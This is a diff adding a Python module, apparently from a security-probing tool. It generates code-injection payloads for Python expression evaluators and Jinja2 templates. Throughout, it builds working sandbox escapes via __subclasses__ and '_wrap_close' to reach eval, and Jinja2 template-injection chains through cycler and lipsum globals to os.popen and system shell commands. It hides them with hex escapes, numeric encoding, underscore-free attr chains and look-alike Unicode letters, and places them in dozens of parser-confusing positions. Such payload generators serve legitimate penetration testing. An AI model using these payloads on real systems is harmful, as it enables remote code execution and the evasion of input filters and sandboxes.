@@ -1,0 +1,227 @@
+"""Python expressions and Jinja2 templates that run code where only a small notation is meant to be read.
+
+What runs is one thing, where it stands is another: a payload is a place of the notation with a word for the code in it.
+`codes(marker)` says what the words stand for; give it to `markers.runs`.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+from typing import Any
+
+from probes.grammars.ranked import in_turn, ranked
+
+
+def quoted(code: str) -> str:
+    """A Python string literal of the code that shows none of its words."""
+    return "'" + "".join(f"\\x{ord(character):02x}" for character in code) + "'"
+
+
+def climb(start: str, code: str) -> str:
+    """An expression that goes from any value to the built-in functions, without one of their names."""
+    classes = f"{start}.__class__.__base__.__subclasses__()"
+    found = f"[c.__init__ for c in {classes} if c.__name__ == '_wrap_close']"
+    return f"[f.__globals__['__builtins__']['eval']({quoted(code)}, f.__globals__) for f in {found}][0]"
+
+
+def _number(text: str) -> str:
+    """The text as arithmetic writes it: a whole number that is taken apart into bytes."""
+    return f"({int.from_bytes(text.encode(), 'big')}).to_bytes({len(text)}).decode()"
+
+
+def by_signs_of_a_formula(code: str) -> str:
+    """From a number to the built-in functions with nothing but letters, digits, dots and round brackets.
+
+    Every call is that of an attribute, for programs that allow those.
+    """
+    names = "(1).__reduce_ex__(2).__getitem__(0).__globals__"
+    return f"{names}.get({_number('__builtins__')}).get({_number('eval')}).__call__({_number(climb('()', code))})"
+
+
+def _without_underscores(start: str, code: str) -> str:
+    """A Jinja2 expression without an underscore, by way of the filter `attr`."""
+    hidden = "\\x5f\\x5f"
+    road = "".join(f"|attr('{hidden}{name}{hidden}')" for name in ("init", "globals"))
+    builtins = f"({start}{road})|attr('get')('{hidden}builtins{hidden}')"
+    return f"({builtins})|attr('get')('eval')({quoted(code)})"
+
+
+#: The words for expressions of Python, and of Jinja2, the most useful first.
+EXPRESSIONS = (
+    "EXPR_PLAIN",
+    "EXPR_TUPLE",
+    "EXPR_SIGNS",
+    "EXPR_EVAL",
+    "EXPR_VALUE",
+    "EXPR_HIDDEN",
+    "EXPR_TEXT",
+    "EXPR_LETTERS",
+)
+JINJA = ("JINJA_SELF", "JINJA_CYCLER", "JINJA_LIPSUM", "JINJA_ATTR", "JINJA_CLASSES", "EXPR_TUPLE", "JINJA_TEXT")
+
+
+def codes(marker: Any, value: str = "x") -> dict[str, str]:
+    """What the words stand for; `value` is the name of an ordinary value."""
+    run = marker.python
+    jinja_classes = ".__class__.__base__.__subclasses__()|selectattr('__name__','eq','_wrap_close')|first)"
+    system = f".__init__.__globals__['system']('{marker.shell}')"
+    return {
+        "EXPR_PLAIN": run,
+        "EXPR_TUPLE": climb("()", run),
+        "EXPR_EVAL": f"eval({quoted(run)})",
+        "EXPR_VALUE": climb(value, run),
+        "EXPR_TEXT": climb("''", run),
+        "EXPR_SIGNS": by_signs_of_a_formula(run),
+        "EXPR_HIDDEN": f"getattr(getattr(print, {quoted('__self__')}), {quoted('eval')})({quoted(run)})",
+        "EXPR_LETTERS": f"𝒆𝒗𝒂𝒍(𝒃𝒚𝒕𝒆𝒔({list(run.encode())}).𝒅𝒆𝒄𝒐𝒅𝒆())",
+        "JINJA_SELF": f"self.__init__.__globals__.__builtins__.eval({quoted(run)})",
+        "JINJA_CYCLER": f"cycler.__init__.__globals__.os.popen('{marker.shell}').read()",
+        "JINJA_LIPSUM": f"lipsum.__globals__['os'].popen('{marker.shell}').read()",
+        "JINJA_ATTR": _without_underscores("cycler", run),
+        "JINJA_CLASSES": f"({value}{jinja_classes}{system}",
+        "JINJA_TEXT": f"(''{jinja_classes}{system}",
+    }
+
+
+_IN_FORMULAS = (
+    ("@", "(@)", "V + (@)", "-@", "V * -(@)"),
+    (
+        "(V\n+ @\n)",
+        "V + \\\n@",
+        "+-+@",
+        "(V, @)[0]",
+        "[@][0]",
+        "V if (@) else 2",
+        "1 if V else (@)",
+        "(@) or V",
+        "(lambda: (@))()",
+        "V # \n+ (@)",
+        "(0 * @\n+ V)",
+        "V and @",
+        "not @",
+        "V < @",
+        "[@ for c in [1]][0] or 1",
+        "V / (1 + @)",
+        "V.real + @",
+        "V.__add__(@)",
+        "abs(@)",
+        "max(V, @)",
+        "(x := @)",
+        "V[@]",
+        "{@: V}",
+        "{V: @}",
+        "f'{@}'",
+        "V ** (@)",
+        "V % (@)",
+        "V // @",
+        "(lambda x=@: x)()",
+        "V\n@",
+        "V;@",
+        " @",
+        "\t@",
+        "V == @",
+        "~@",
+        "V | @",
+        "print(*[@])",
+        "dict(x=@)",
+        "[V][(@):]",
+        "await @",
+        "(yield @)",
+        "V if V else\\\n @",
+        "((((@))))",
+        "1.0.__class__(@)",
+        "V @ @",
+        "@ if V else V",
+        "lambda: @",
+        "{*[@]}",
+        "V is @",
+    ),
+)
+
+
+def formulas(value: str) -> Iterator[str]:
+    """Formulas in which code stands at every place that a reader of the notation may not look at."""
+    places = [[place.replace("V", value) for place in tier] for tier in _IN_FORMULAS]
+    words = [[EXPRESSIONS[0], EXPRESSIONS[1]], EXPRESSIONS[2:4], EXPRESSIONS[4:]]
+    combined = (place.replace("@", word) for place, word in ranked(places, words))
+    yield from in_turn(combined, (place.replace("@", word) for word in EXPRESSIONS for place in places[0]))
+
+
+_IN_TEMPLATES = (
+    ("{{ @ }}", "{% if @ %}{% endif %}", "{{ V\n|upper(@) }}", "{{ @\n}}", "{{ V }}\n{{ @ }}"),
+    (
+        "{{\n@ }}",
+        "{{- @ -}}",
+        "{{ V }}{{ @ }}",
+        "{# {{ #}{{ @ }}",
+        "{ {{ @ }} }",
+        "{{ V|upper(@) }}",
+        "{{ V|lower(x=@) }}",
+        "{{ V|upper|default(@) }}",
+        "{{ missing or @ }}",
+        "{{ @ if V }}",
+        "{{ V if @ }}",
+        "{{ V[@] }}",
+        "{% if V %}{{ @ }}{% endif %}",
+        "{% if @\n%}{% endif %}",
+        "{%\nif V and @ %}{% endif %}",
+        "{%- if missing or @ -%}{%- endif -%}",
+        "{% if missing %}{% elif @ %}{% endif %}",
+        "{% if missing %}{% elif missing %}{% elif @ %}{% endif %}",
+        "{% if missing %}{% else %}{{ @ }}{% endif %}",
+        "{% if missing %}{% elif V %}{{ @ }}{% endif %}",
+        "{% set x = @ %}{{ x }}",
+        "{% for x in [@] %}{{ x }}{% endfor %}",
+        "{% with x = @ %}{{ x }}{% endwith %}",
+        "{{ '}' ~ @ }}",
+        "{{ '}}' ~ @ }}",
+        "{{ {'x': @} }}",
+        "{{ '{{' ~ @ }}",
+        "{{ [V, @] }}",
+        "{{ V ~ @ }}",
+        "{{ V == @ }}",
+        "{% if V == '}' ~ @ %}{% endif %}",
+        "{% if {1: @} %}{% endif %}",
+        "{% print(@) %}",
+        "{% raw %}{{ V }}{% endraw %}{{ @ }}",
+        "{% filter upper %}{{ @ }}{% endfilter %}",
+        "{% macro m() %}{{ @ }}{% endmacro %}{{ m() }}",
+        "{% macro m(x=@) %}{% endmacro %}{{ m() }}",
+        "{% include @ %}",
+        "{% block b %}{{ @ }}{% endblock %}",
+        "{%+ if @ %}{% endif %}",
+        "{{\t@\t}}",
+        "{{ not @ }}",
+        "{{ -@ }}",
+        "{{ V is sameas(@) }}",
+        "{{ V|upper }}{{ @|lower }}",
+        "{{ @|upper }}",
+        "{{ (V, @)|last }}",
+        "{{ V.x[@] }}",
+        "{{ V.upper(@) }}",
+        "${@}",
+        "{@}",
+        "{{{ @ }}}",
+        "{% if V %}{% if @ %}{% endif %}{% endif %}",
+        "{{ @ }}{% if V %}",
+        "{{ V }}\r{{ @ }}",
+        "{% if V %}\r{{ @ }}{% endif %}",
+        "{{\r@ }}",
+        "{% if not @ %}{% endif %}",
+        "<%= @ %>",
+        "{{ V|map(@) }}",
+        "{{ V|attr(@) }}",
+        "{{ x\u2028@ }}",
+        "{%if V%}{%endif%}{{@}}",
+        "{{ V|format(@) }}",
+    ),
+)
+
+
+def templates(value: str, words: Sequence[str] = JINJA) -> Iterator[str]:
+    """Templates in which code stands at every place that a reader of the notation may not look at."""
+    places = [[place.replace("V", value) for place in tier] for tier in _IN_TEMPLATES]
+    yield from in_turn(
+        (place.replace("@", word) for place, word in ranked(places, [words[:1], words[1:4], words[4:]])),
+        (places[0][0].replace("@", word) for word in (*words, *EXPRESSIONS)),
+    )
